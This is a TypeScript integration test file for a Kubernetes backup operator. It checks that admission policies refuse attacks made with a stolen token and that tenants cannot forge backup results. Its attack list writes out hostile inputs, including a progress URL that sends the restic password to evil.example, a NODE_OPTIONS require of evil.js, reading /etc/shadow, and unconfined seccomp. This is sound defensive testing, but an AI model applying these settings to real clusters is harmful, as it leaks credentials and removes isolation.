// The admission bounds against a stolen token (docs/security.md): with the reconcile and tick functions' real
// tokens, every attack the bounds name is tried on the real API server and refused with the policy's message (server
// dry runs: admission runs, nothing is stored); and a tenant who can make pods beside a worker cannot forge its
// result with a pod that wears the Job's label.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { INSTALL_NAMESPACE, ServiceAccount } from "../../lib/api/constants.ts";
import { ownedMetadata, workerJob, type Manifest } from "../../lib/core/builders.ts";
import { ApiError, type RestClient } from "../../lib/k8s/rest.ts";
import { encodeResult } from "../../lib/restic/result.ts";
import { listSnapshots, startRestServer, tempDir, type RestServer } from "../integration/worker-harness.ts";
import { PASSWORD, pvcWithData, repositorySecret, settled, type BackupJobObj } from "../support/backup-fixtures.ts";
import { admin, clientForServiceAccount, clientForUser, createNamespace, waitFor } from "../support/kube.ts";
import { testConfig } from "../support/config.ts";
import { refEvent } from "../support/triggers.ts";
import { startWalle, WORKER_IMAGE } from "../support/walle.ts";

const DRY = { dryRun: "All" };
const SNAP = "/apis/snapshot.storage.k8s.io/v1";
const config = { ...testConfig, workerImage: WORKER_IMAGE };
const owner = {
  namespace: "elsewhere",
  ref: { apiVersion: "ros.io/v1", kind: "BackupJob", name: "b", uid: "u", controller: true, blockOwnerDeletion: true } as const,
};
type PodSpec = Record<string, unknown> & {
  containers: (Record<string, unknown> & { securityContext: Record<string, unknown> })[];
  securityContext: Record<string, unknown>;
};

/** The answer to a request: "admitted", or the status code and the API server's message. */
function answer(p: Promise<unknown>): Promise<string> {
  return p.then(
    () => "admitted",
    (e: unknown) => (e instanceof ApiError ? `${e.code} ${e.message}` : String(e)),
  );
}

/** Walle's own backup worker Job, as the core builds it, with one thing changed in its pod. */
function job(ns: string, change: (pod: PodSpec, job: Manifest & { spec: { template: { metadata: Record<string, unknown> } } }) => void = () => {}): Manifest {
  const made = structuredClone(
    workerJob({
      metadata: ownedMetadata("worker", ns, { "ros.io/backup-job": "b" }, owner),
      config,
      command: "backup",
      repositorySecret: "repo",
      volume: { claimName: "snap", readOnly: true },
      env: { PVC_NAME: "data", PVC_NAMESPACE: ns },
    }),
  ) as Manifest & { spec: { template: { metadata: Record<string, unknown>; spec: PodSpec } } };
  change(made.spec.template.spec, made);
  return made;
}

let rest: RestServer;
beforeAll(async () => {
  rest = await startRestServer({ dataDir: await tempDir("rest"), users: { tenant: "rest-secret" } });
});
afterAll(async () => rest?.stop());

describe("a stolen reconcile or tick token", () => {
  it("is refused everything the bounds name, by the API server, with the policy's message", async () => {
    const ns = await createNamespace("stolen");
    const reconcile = await clientForServiceAccount(INSTALL_NAMESPACE, ServiceAccount.Reconcile);
    const tick = await clientForServiceAccount(INSTALL_NAMESPACE, ServiceAccount.Tick);
    const jobs = `/apis/batch/v1/namespaces/${ns}/jobs`;
    const worker = (p: PodSpec) => p.containers[0] as PodSpec["containers"][number];
    // A volume that is not Walle's, bound to a tenant's claim.
    const pv = `stolen-${ns}`;
    await admin().create("/api/v1/persistentvolumes", {
      apiVersion: "v1",
      kind: "PersistentVolume",
      metadata: { name: pv },
      spec: {
        capacity: { storage: "1Gi" },
        accessModes: ["ReadWriteOnce"],
        persistentVolumeReclaimPolicy: "Delete",
        storageClassName: "csi-hostpath-sc",
        csi: { driver: "hostpath.csi.walle.local", volumeHandle: pv },
        claimRef: { namespace: ns, name: "database" },
      },
    });
    const staging = `staging-${ns}`;
    await admin().create("/api/v1/persistentvolumes", {
      apiVersion: "v1",
      kind: "PersistentVolume",
      metadata: { name: staging },
      spec: {
        capacity: { storage: "1Gi" },
        accessModes: ["ReadWriteOnce"],
        persistentVolumeReclaimPolicy: "Delete",
        storageClassName: "csi-hostpath-sc",
        csi: { driver: "hostpath.csi.walle.local", volumeHandle: staging },
        claimRef: { namespace: INSTALL_NAMESPACE, name: `walle-restore-${ns}` },
      },
    });
    const patchPv = (api: RestClient, name: string, body: unknown) => answer(api.patch(`/api/v1/persistentvolumes/${name}`, body, "merge", DRY));
    // An admin of the install namespace (Kubernetes' admin role there), who may delete its ConfigMaps but not lift a policy.
    const ops = `ops-${ns}`;
    await admin().create(`/apis/rbac.authorization.k8s.io/v1/namespaces/${INSTALL_NAMESPACE}/rolebindings`, {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "RoleBinding",
      metadata: { name: ops },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" },
      subjects: [{ apiGroup: "rbac.authorization.k8s.io", kind: "User", name: ops }],
    });
    const installAdmin = await clientForUser(ops);
    const permits = `/api/v1/namespaces/${INSTALL_NAMESPACE}/configmaps/walle-exec-permits`;
    try {
      const attacks: [string, Promise<string>, RegExp][] = [
        [
          "a Secret by envFrom without the prefix",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => (worker(p).envFrom = [{ secretRef: { name: "database-credentials" } }])),
              DRY,
            ),
          ),
          /only by envFrom with the prefix SECRET_/,
        ],
        [
          "a second Secret by envFrom",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => (worker(p).envFrom = [...(worker(p).envFrom as unknown[]), { prefix: "SECRET_", secretRef: { name: "other" } }])),
              DRY,
            ),
          ),
          /only by envFrom with the prefix SECRET_/,
        ],
        [
          "a Secret's key by env valueFrom",
          answer(
            tick.create(
              jobs,
              job(ns, (p) => (worker(p).env = [{ name: "PVC_NAME", valueFrom: { secretKeyRef: { name: "database-credentials", key: "password" } } }])),
              DRY,
            ),
          ),
          /env only of its settings, by value/,
        ],
        [
          "NODE_OPTIONS in env",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => (worker(p).env = [{ name: "NODE_OPTIONS", value: "--require /data/evil.js" }])),
              DRY,
            ),
          ),
          /env only of its settings/,
        ],
        [
          "a repository of the attacker's in env",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => (worker(p).env = [{ name: "SECRET_RESTIC_REPOSITORY", value: "rest:http://evil.example/" }])),
              DRY,
            ),
          ),
          /env only of its settings/,
        ],
        [
          "a setting that expands the Secret's password into the progress URL",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => (worker(p).env = [{ name: "PROGRESS_SINK_URL", value: "https://evil.example/?p=$(SECRET_RESTIC_PASSWORD)" }])),
              DRY,
            ),
          ),
          /no \$\(…\) reference/,
        ],
        [
          "a PVC's file as the progress token, sent to the sink",
          answer(
            tick.create(
              jobs,
              job(ns, (p) => (worker(p).env = [{ name: "PROGRESS_TOKEN_FILE", value: "/data/etc/shadow" }])),
              DRY,
            ),
          ),
          /PROGRESS_TOKEN_FILE and RESTIC_CACHE_DIR at Walle's own paths/,
        ],
        [
          "the worker image from another registry",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => (worker(p).image = "evil.example/walle-worker:dev")),
              DRY,
            ),
          ),
          /ValidatingAdmissionPolicy 'walle-worker-image'.*runs the install's worker image, ghcr\.io\/ros-io\/walle-worker:dev, and no other/,
        ],
        [
          "the worker image at another tag",
          answer(
            tick.create(
              jobs,
              job(ns, (p) => (worker(p).image = "ghcr.io/ros-io/walle-worker:evil")),
              DRY,
            ),
          ),
          /walle-worker-image/,
        ],
        [
          "Node as the command, in the worker image",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => (worker(p).command = ["/nodejs/bin/node", "-e", "process.exit(0)"])),
              DRY,
            ),
          ),
          /runs the image's own entrypoint with one of its commands/,
        ],
        [
          "a command that is not a worker's",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => (worker(p).args = ["unlock"])),
              DRY,
            ),
          ),
          /one of its commands \(backup, restore, prune, check, snapshots\)/,
        ],
        [
          "a lifecycle hook",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => (worker(p).lifecycle = { postStart: { exec: { command: ["/nodejs/bin/node", "-e", "1"] } } })),
              DRY,
            ),
          ),
          /no lifecycle hook or probe/,
        ],
        [
          "no seccomp profile",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => delete p.securityContext.seccompProfile),
              DRY,
            ),
          ),
          /seccomp RuntimeDefault/,
        ],
        [
          "seccomp Unconfined in the container",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => (worker(p).securityContext.seccompProfile = { type: "Unconfined" })),
              DRY,
            ),
          ),
          /seccomp RuntimeDefault/,
        ],
        [
          "AppArmor Unconfined",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => (p.securityContext.appArmorProfile = { type: "Unconfined" })),
              DRY,
            ),
          ),
          /never Unconfined/,
        ],
        [
          "AppArmor Unconfined by the old annotation",
          answer(
            reconcile.create(
              jobs,
              job(ns, (_p, j) => (j.spec.template.metadata.annotations = { "container.apparmor.security.beta.kubernetes.io/worker": "unconfined" })),
              DRY,
            ),
          ),
          /never Unconfined/,
        ],
        [
          "a writable root filesystem",
          answer(
            reconcile.create(
              jobs,
              job(ns, (p) => (worker(p).securityContext.readOnlyRootFilesystem = false)),
              DRY,
            ),
          ),
          /read-only root filesystem/,
        ],
        [
          "a tenant's volume handed to another claim",
          patchPv(reconcile, pv, { spec: { claimRef: { namespace: INSTALL_NAMESPACE, name: "grab", uid: null, resourceVersion: null } } }),
          /only a PersistentVolume that is already its own/,
        ],
        [
          "a tenant's volume taken over by labelling it",
          patchPv(tick, pv, { metadata: { labels: { "app.kubernetes.io/created-by": "walle" } }, spec: { persistentVolumeReclaimPolicy: "Retain" } }),
          /only a PersistentVolume that is already its own/,
        ],
        [
          "the staging volume moved in the same patch that takes it over",
          patchPv(reconcile, staging, {
            metadata: { labels: { "app.kubernetes.io/created-by": "walle" } },
            spec: { claimRef: { namespace: ns, name: "grab", uid: null, resourceVersion: null } },
          }),
          /takes one over without moving its claim/,
        ],
        [
          "a label that is not Walle's on a volume",
          patchPv(reconcile, staging, { metadata: { labels: { "app.kubernetes.io/created-by": "walle", team: "attacker" } } }),
          /only its own labels/,
        ],
        [
          "an unlabelled VolumeSnapshot of a tenant's PVC",
          answer(
            reconcile.create(
              `${SNAP}/namespaces/${ns}/volumesnapshots`,
              {
                apiVersion: "snapshot.storage.k8s.io/v1",
                kind: "VolumeSnapshot",
                metadata: { name: "grab" },
                spec: { source: { persistentVolumeClaimName: "database" } },
              },
              DRY,
            ),
          ),
          /labelled app\.kubernetes\.io\/created-by=walle/,
        ],
        [
          "deleting the exec permits, as an admin of the install namespace",
          answer(installAdmin.delete(permits, undefined, DRY)),
          /walle-exec-permits-kept.*stays while Walle is installed/,
        ],
      ];
      const seen = await Promise.all(attacks.map(([, refused]) => refused));
      const rows = attacks.map(([what, , message], i) => [what, message.test(seen[i] ?? "") && seen[i]?.startsWith("403 ") ? "refused as expected" : seen[i]]);
      expect(rows).toEqual(attacks.map(([what]) => [what, "refused as expected"]));

      // What Walle itself does is admitted: its worker Job as built, and the handover's first step on its staging volume.
      expect(await answer(reconcile.create(jobs, job(ns), DRY))).toBe("admitted");
      expect(await answer(tick.create(jobs, job(ns), DRY))).toBe("admitted");
      expect(
        await patchPv(reconcile, staging, {
          metadata: { labels: { "app.kubernetes.io/created-by": "walle" }, annotations: { "ros.io/original-reclaim-policy": "Delete" } },
          spec: { persistentVolumeReclaimPolicy: "Retain" },
        }),
      ).toBe("admitted");
      // Who could lift the protection (a cluster admin uninstalling Walle) may delete the permits.
      expect(await answer(admin().delete(permits, undefined, DRY))).toBe("admitted");
    } finally {
      for (const name of [pv, staging])
        await admin()
          .delete(`/api/v1/persistentvolumes/${name}`)
          .catch(() => {});
      await admin()
        .delete(`/apis/rbac.authorization.k8s.io/v1/namespaces/${INSTALL_NAMESPACE}/rolebindings/${ops}`)
        .catch(() => {});
    }
  });
});

interface PodSeen {
  metadata: { name: string; creationTimestamp?: string };
  status?: { phase?: string };
}

/** A BackupJob's worker Job, once the job controller has made its first pod. */
async function workerJobOf(ns: string, backupJob: string): Promise<{ jobName: string }> {
  return waitFor(
    async () => {
      const jobs = await admin().get<{ items: { metadata: { name: string; uid: string } }[] }>(`/apis/batch/v1/namespaces/${ns}/jobs`, {
        labelSelector: `ros.io/backup-job=${backupJob}`,
      });
      const found = jobs.items[0];
      if (!found) return undefined;
      const pods = await admin().get<{ items: PodSeen[] }>(`/api/v1/namespaces/${ns}/pods`, {
        labelSelector: `batch.kubernetes.io/controller-uid=${found.metadata.uid}`,
      });
      return pods.items.length > 0 ? { jobName: found.metadata.name } : undefined;
    },
    "the worker Job's pod",
    120_000,
  );
}

/** A pod a tenant runs beside the worker, wearing its Job's label, whose termination message claims a backup. */
function forgedPod(name: string, jobName: string) {
  const lie = encodeResult({
    command: "backup",
    outcome: "Succeeded",
    reason: "Completed",
    message: "Backed up 1 file.",
    snapshotId: "f".repeat(64),
    exitCode: 0,
    exitMeaning: "ok",
    startedAt: new Date().toISOString(),
    finishedAt: new Date().toISOString(),
  });
  return {
    apiVersion: "v1",
    kind: "Pod",
    metadata: {
      name,
      labels: { "job-name": jobName, "batch.kubernetes.io/job-name": jobName },
    },
    spec: {
      restartPolicy: "Never",
      automountServiceAccountToken: false,
      containers: [{ name: "worker", image: "busybox:1.36", command: ["sh", "-c", 'printf "%s" "$0" > /dev/termination-log', lie] }],
    },
  };
}

describe("a tenant who can make pods beside its worker", () => {
  it("cannot forge the worker's result: the BackupJob ends as the real worker says", async () => {
    await startWalle();
    const ns = await createNamespace("forge");
    const repo = rest.repository("tenant", "rest-secret", `forge-${ns}`);
    await pvcWithData(ns, "data", { "real.txt": "the real backup" });
    await repositorySecret(ns, "repo", repo);
    await admin().create(`/apis/ros.io/v1/namespaces/${ns}/backupjobs`, {
      apiVersion: "ros.io/v1",
      kind: "BackupJob",
      metadata: { name: "nightly" },
      spec: { sourcePvc: "data", repository: { name: "repo", namespace: ns } },
    });
    const { jobName } = await workerJobOf(ns, "nightly");
    await admin().create(`/api/v1/namespaces/${ns}/pods`, forgedPod("forged", jobName));
    const bj: BackupJobObj = await settled(ns, "nightly", 180_000);
    const snapshots = await listSnapshots({ RESTIC_REPOSITORY: repo, RESTIC_PASSWORD: PASSWORD });
    expect({ phase: bj.status?.phase, snapshotId: bj.status?.snapshotId }).toEqual({ phase: "Finished", snapshotId: snapshots[0]?.id });
    expect(snapshots).toHaveLength(1);
    expect(bj.status?.snapshotId).not.toBe("f".repeat(64));
    const forged = await admin().get<PodSeen & { status?: { containerStatuses?: { state?: { terminated?: { message?: string } } }[] } }>(
      `/api/v1/namespaces/${ns}/pods/forged`,
    );
    expect(forged.status?.containerStatuses?.[0]?.state?.terminated?.message).toContain("f".repeat(64));
  });

  it("cannot make a worker run what its repository Secret says beyond restic's repository variables", async () => {
    await startWalle();
    const ns = await createNamespace("secret-env");
    await pvcWithData(ns, "data", { "a.txt": "a" });
    await admin().create(`/api/v1/namespaces/${ns}/secrets`, {
      apiVersion: "v1",
      kind: "Secret",
      metadata: { name: "repo" },
      stringData: {
        RESTIC_REPOSITORY: rest.repository("tenant", "rest-secret", `env-${ns}`),
        RESTIC_PASSWORD: PASSWORD,
        INITIALIZE_REPO: "true",
        NODE_OPTIONS: "--require /data/evil.js",
        RESTIC_BINARY: "/nodejs/bin/node",
      },
    });
    await admin().create(`/apis/ros.io/v1/namespaces/${ns}/backupjobs`, {
      apiVersion: "ros.io/v1",
      kind: "BackupJob",
      metadata: { name: "b" },
      spec: { sourcePvc: "data", repository: { name: "repo", namespace: ns } },
    });
    const bj = await settled(ns, "b", 180_000);
    const state = bj.status?.conditions?.find((c) => c.type === "BackupState");
    expect({ phase: bj.status?.phase, reason: state?.reason }).toEqual({ phase: "Failed", reason: "InvalidConfig" });
    expect(state?.message).toContain("the repository Secret's key NODE_OPTIONS is not one of restic's repository variables");
    expect(state?.message).toContain("the repository Secret's key RESTIC_BINARY is not one of restic's repository variables");
  });
});

interface JobSeen {
  metadata: { name: string; uid: string };
  status?: { conditions?: { type: string; status: string }[] };
}

describe("a worker Job that the job controller calls Complete", () => {
  it("ends the BackupJob Failed/NoResult when no pod of its own is left to say what it did", async () => {
    // The reconcile function steps only on the events this test sends, so the Job can complete unseen, and its pod
    // go before Walle reads it: as the pod garbage collector or a lost node would take it.
    const walle = await startWalle({ eventSource: false });
    const ns = await createNamespace("no-result");
    await pvcWithData(ns, "data", { "a.txt": "a" });
    await repositorySecret(ns, "repo", rest.repository("tenant", "rest-secret", `none-${ns}`));
    await admin().create(`/apis/ros.io/v1/namespaces/${ns}/backupjobs`, {
      apiVersion: "ros.io/v1",
      kind: "BackupJob",
      metadata: { name: "b" },
      spec: { sourcePvc: "data", repository: { name: "repo", namespace: ns } },
    });
    const ref = { apiVersion: "ros.io/v1", kind: "BackupJob", namespace: ns, name: "b" };
    const answers: number[] = [];
    const step = async (): Promise<BackupJobObj> => {
      answers.push((await refEvent(walle.url, ref)).status);
      return admin().get<BackupJobObj>(`/apis/ros.io/v1/namespaces/${ns}/backupjobs/b`);
    };
    const jobs = `/apis/batch/v1/namespaces/${ns}/jobs`;
    const made = await waitFor(
      async () => {
        await step();
        return (await admin().get<{ items: JobSeen[] }>(jobs, { labelSelector: "ros.io/backup-job=b" })).items[0];
      },
      "the worker Job",
      120_000,
    );
    const complete = await waitFor(
      async () => {
        const j = await admin().get<JobSeen>(`${jobs}/${made.metadata.name}`);
        return j.status?.conditions?.some((c) => c.type === "Complete" && c.status === "True") ? j : undefined;
      },
      "the worker Job to complete",
      180_000,
    );
    const own = `batch.kubernetes.io/controller-uid=${complete.metadata.uid}`;
    const pods = await admin().get<{ items: PodSeen[] }>(`/api/v1/namespaces/${ns}/pods`, { labelSelector: own });
    expect(pods.items.map((p) => p.status?.phase)).toEqual(["Succeeded"]);
    await admin().delete(`/api/v1/namespaces/${ns}/pods/${pods.items[0]?.metadata.name}`);
    await waitFor(
      async () => (await admin().get<{ items: PodSeen[] }>(`/api/v1/namespaces/${ns}/pods`, { labelSelector: own })).items.length === 0,
      "the worker pod to go",
      60_000,
    );
    const bj = await waitFor(
      async () => {
        const got = await step();
        return got.status?.phase === "Failed" || got.status?.phase === "Finished" ? got : undefined;
      },
      "the BackupJob to end",
      60_000,
    );
    expect(answers.filter((s) => s !== 200 && s !== 503)).toEqual([]);
    const state = bj.status?.conditions?.find((c) => c.type === "BackupState");
    expect({ phase: bj.status?.phase, reason: state?.reason, snapshotId: bj.status?.snapshotId }).toEqual({
      phase: "Failed",
      reason: "NoResult",
      snapshotId: undefined,
    });
    expect(state?.message).toBe(`Worker Job ${ns}/${made.metadata.name} completed, but no pod of its own left a result.`);
  });
});
